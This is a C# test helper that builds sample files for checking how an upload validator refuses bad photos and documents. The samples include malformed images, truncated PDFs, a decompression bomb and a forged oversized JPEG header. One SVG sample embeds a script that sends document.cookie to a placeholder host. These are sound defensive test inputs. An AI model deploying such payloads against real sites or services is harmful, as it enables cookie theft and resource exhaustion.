using System.Buffers.Binary;
using System.Collections.Concurrent;
using System.Text;
using SkiaSharp;

namespace Pixfra.Rma.Testing.Evidence;

/// <summary>
/// The corpus, generated on first use and shared by the tests (no binary file is committed). Named samples are the
/// refusal cases of the issue; photos are rendered per scene, size and blur.
/// </summary>
public static class Samples
{
    private static readonly ConcurrentDictionary<(Scene, int, int, float, SKEncodedImageFormat), byte[]> Photos = new();

    private static readonly Lazy<Dictionary<string, byte[]>> NamedSamples = new(BuildNamed);

    public static byte[] Photo(Scene scene, int width, int height, float blurAt1600 = 0, SKEncodedImageFormat format = SKEncodedImageFormat.Jpeg) =>
        Photos.GetOrAdd((scene, width, height, blurAt1600, format), key => PhotoRenderer.Render(key.Item1, key.Item2, key.Item3, key.Item4, key.Item5));

    /// <summary>A sharp label photo at VGA, the smallest size accepted.</summary>
    public static byte[] SharpJpeg => Photo(Scene.Label, 640, 480);

    public static byte[] SharpPng => Photo(Scene.Label, 640, 480, format: SKEncodedImageFormat.Png);

    public static byte[] Named(string name) => NamedSamples.Value.TryGetValue(name, out var bytes)
        ? bytes
        : throw new ArgumentException($"No sample named \"{name}\".", nameof(name));

    private static Dictionary<string, byte[]> BuildNamed()
    {
        var pdf = PdfFiles.Invoice(pages: 3);
        return new Dictionary<string, byte[]>
        {
            ["a zero-byte file"] = [],
            ["random bytes"] = RandomBytes(50_000, seed: 7),
            ["a plain text file"] = "SN PX2611A04417, PN 1002-3391-02\n"u8.ToArray(),
            ["a GIF"] = [.. "GIF89a"u8, 1, 0, 1, 0, 0x80, 0, 0],
            ["a WebP"] = [.. "RIFF"u8, 0x24, 0, 0, 0, .. "WEBPVP8 "u8, .. RandomBytes(64, seed: 8)],
            ["a Windows program"] = [.. "MZ"u8, .. RandomBytes(1000, seed: 9)],
            ["a ZIP archive"] = [.. "PK"u8, 3, 4, .. RandomBytes(1000, seed: 10)],
            ["an SVG with a script"] = Encoding.UTF8.GetBytes("<svg xmlns=\"http://www.w3.org/2000/svg\" width=\"800\" height=\"600\"><script>fetch('https://example.invalid/'+document.cookie)</script><rect width=\"800\" height=\"600\"/></svg>"),
            ["an SVG after a byte order mark and blank lines"] = [0xEF, 0xBB, 0xBF, .. "\r\n  \n\t<SVG viewBox=\"0 0 10 10\"></SVG>"u8],
            ["an XML file"] = "<?xml version=\"1.0\"?><invoice><sn>PX2611A04417</sn></invoice>"u8.ToArray(),
            ["an iPhone HEIC photo"] = Heif("heic", "mif1", "heic"),
            ["a HEIF naming heic only as a compatible brand"] = Heif("isom", "iso8", "heic"),
            ["a HEIF image sequence"] = Heif("msf1", "msf1", "hevc"),
            ["a PNG with a JPEG header"] = [0xFF, 0xD8, 0xFF, 0xE0, .. SharpPng.AsSpan(8)],
            ["a JPEG with a PNG signature"] = [0x89, 0x50, 0x4E, 0x47, 0x0D, 0x0A, 0x1A, 0x0A, .. SharpJpeg.AsSpan(3)],
            ["a JPEG cut at 60%"] = Cut(SharpJpeg, 0.6),
            ["a JPEG cut after its header"] = SharpJpeg[..700],
            ["a PNG cut at 60%"] = Cut(SharpPng, 0.6),
            ["a PNG cut after its header"] = SharpPng[..100],
            ["a PDF cut at 60%"] = Cut(pdf, 0.6),
            ["a PDF cut at 95%"] = Cut(pdf, 0.95),
            ["a PDF header followed by junk"] = [.. "%PDF-1.7\n"u8, .. RandomBytes(20_000, seed: 11)],
            ["a password-protected PDF"] = PdfFiles.PasswordProtected(),
            ["a PDF with no pages"] = PdfFiles.NoPages(),
            ["a PDF with 51 pages"] = PdfFiles.Invoice(pages: 51),
            ["a decompression bomb of 20000×20000 pixels"] = PngFiles.Bomb(20_000, 20_000),
            ["a JPEG whose header claims 60000×60000 pixels"] = JpegWithDeclaredSize(SharpJpeg, 60_000, 60_000),
            ["a 320×240 photo"] = Photo(Scene.Label, 320, 240),
            ["a 2000×400 strip"] = PhotoRenderer.Plain(2000, 400),
            ["a blurred label photo"] = Photo(Scene.Label, 1600, 1200, blurAt1600: 6),
            ["a blurred PNG screenshot of a label"] = Photo(Scene.Label, 640, 480, blurAt1600: 8, SKEncodedImageFormat.Png),
            ["a photo of a blank wall"] = PhotoRenderer.Plain(1600, 1200, SKEncodedImageFormat.Jpeg),
        };
    }

    /// <summary>The start of an ISO base media file: an "ftyp" box with a major brand and compatible brands.</summary>
    private static byte[] Heif(string major, params string[] compatible)
    {
        var brands = string.Concat(compatible);
        var size = 16 + brands.Length;
        byte[] box = [0, 0, 0, (byte)size, .. "ftyp"u8, .. Encoding.ASCII.GetBytes(major), 0, 0, 0, 0, .. Encoding.ASCII.GetBytes(brands)];
        return [.. box, .. RandomBytes(4000, seed: 12)];
    }

    /// <summary>A real JPEG with the frame size in its SOF0 header overwritten: the data no longer matches the claim.</summary>
    private static byte[] JpegWithDeclaredSize(byte[] jpeg, ushort width, ushort height)
    {
        var copy = (byte[])jpeg.Clone();
        var sof = copy.AsSpan().IndexOf([(byte)0xFF, (byte)0xC0]);
        if (sof < 0)
        {
            throw new InvalidOperationException("The encoder wrote no baseline SOF0 marker.");
        }

        // FF C0, segment length (2 bytes), precision (1 byte), then height and width, big-endian.
        BinaryPrimitives.WriteUInt16BigEndian(copy.AsSpan(sof + 5), height);
        BinaryPrimitives.WriteUInt16BigEndian(copy.AsSpan(sof + 7), width);
        return copy;
    }

    private static byte[] Cut(byte[] content, double fraction) => content[..(int)(content.Length * fraction)];

    private static byte[] RandomBytes(int length, int seed)
    {
        var bytes = new byte[length];
        new Random(seed).NextBytes(bytes);
        return bytes;
    }
}
